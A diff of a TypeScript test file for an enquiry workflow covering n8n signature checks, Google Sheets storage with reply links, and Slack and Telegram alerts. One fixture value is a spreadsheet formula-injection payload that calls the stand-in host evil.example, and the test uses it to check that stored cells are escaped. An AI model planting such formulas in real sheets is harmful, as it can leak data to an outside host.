@@ -17,7 +17,9 @@ function recipe(heading: string): string {
 
 const record = { ...sampleRecord(), name: '=IMPORTXML("https://evil.example")' };
 const { reference } = record;
-const created: EnquiryEvent = { name: 'created', record };
+const answeredUrl = 'https://quotes.example/answered?reference=R';
+const created: EnquiryEvent = { name: 'created', record, answeredUrl };
+const unanswered: EnquiryEvent = { name: 'unanswered', about: record, at: record.receivedAt, answeredUrl };
 const erased: EnquiryEvent = { name: 'erased', reference, at: record.receivedAt };
 
 test('n8n takes what is signed, and nothing else', async () => {
@@ -39,9 +41,10 @@ test('n8n takes what is signed, and nothing else', async () => {
 	await expect(run(body, new Date(Date.now() - 600_000))).rejects.toThrow('signature');
 });
 
-test('Google Sheets keeps each enquiry once, and forgets it', () => {
+test('Google Sheets keeps each enquiry once, with the link to record a reply, and forgets it for good', () => {
 	const rows: string[][] = [];
-	const posts: [string, Record<string, string>][] = [];
+	const posts: [string, Record<string, unknown>][] = [];
+	const kept = new Map<string, string>();
 	const rowOf = (cell: string) => rows.findIndex((row) => row.some((held) => held.replace(/^'/, '') === cell));
 	const sheet = {
 		createTextFinder: (cell: string) => ({
@@ -54,6 +57,12 @@ test('Google Sheets keeps each enquiry once, and forgets it', () => {
 		LockService: { getScriptLock: () => ({ waitLock() {}, releaseLock() {} }) },
 		SpreadsheetApp: { getActiveSpreadsheet: () => ({ getSheets: () => [sheet] }) },
 		HtmlService: { createHtmlOutput: (text: string) => text },
+		PropertiesService: {
+			getScriptProperties: () => ({
+				setProperty: (key: string, value: string) => void kept.set(key, value),
+				getProperty: (key: string) => kept.get(key) ?? null,
+			}),
+		},
 		UrlFetchApp: {
 			fetch: (url: string, { payload }: { payload: string }) => void posts.push([url, JSON.parse(payload)]),
 		},
@@ -64,9 +73,15 @@ test('Google Sheets keeps each enquiry once, and forgets it', () => {
 		doPost({ parameter: { word }, postData: { contents: JSON.stringify(webhookBody(event)) } });
 	expect(() => send(created, 'guessed')).toThrow('word');
 	expect([send(created), send(created)]).toEqual(['taken', 'taken']);
-	expect(rows).toEqual([expect.arrayContaining([`'${reference}`, `'${record.name}`])]);
-	const text = `New enquiry ${reference}, en, plan-1`;
-	expect(posts.map(([, message]) => message)).toEqual([{ text }, { chat_id: '…', text }]);
-	send(erased);
-	expect(rows).toEqual([]);
+	expect(rows).toEqual([expect.arrayContaining([`'${reference}`, `'${record.name}`, `'${answeredUrl}`])]);
+	const texts = () => posts.splice(0).map(([, message]) => message);
+	const withButton = (text: string) => [
+		{ text, blocks: [expect.objectContaining({ accessory: expect.objectContaining({ url: answeredUrl }) })] },
+		{ chat_id: '…', text, reply_markup: { inline_keyboard: [[{ text: 'I have replied', url: answeredUrl }]] } },
+	];
+	expect(texts()).toEqual(withButton(`New enquiry ${reference}, en, plan-1`));
+	send(unanswered);
+	expect(texts()).toEqual(withButton(`No reply recorded: ${reference}`));
+	for (const late of [erased, created, created]) send(late);
+	expect([rows, texts()]).toEqual([[], []]);
 });
